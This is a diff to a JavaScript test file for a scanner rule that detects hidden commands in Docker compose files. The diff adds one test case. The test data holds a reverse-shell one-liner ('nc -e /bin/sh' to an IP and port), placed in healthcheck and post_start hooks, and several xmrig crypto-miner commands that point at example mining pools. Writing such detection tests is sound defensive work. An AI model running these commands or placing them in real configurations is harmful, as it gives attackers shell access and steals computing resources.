@@ -19,6 +19,7 @@ describe('command-hidden-code', () => {
     'healthcheck: { test: "«nc -e /bin/sh 203.0.113.7 4444»" }',
     'post_start: [{ command: ["sh", "-c", "«nc -e /bin/sh 203.0.113.7 4444»"] }]',
     'command: «xmrig -o pool.example.com:443»',
+    'command: «xmrig -o pool.example.com:443»\n    container_name: adminer',
     'command: sh -c "app & «/tmp/a -o stratum+tcp://pool.example.com:3333»"',
   ])('reports %s', (options) => expectMarks(rule, 'compose.yaml', service(options)));
 
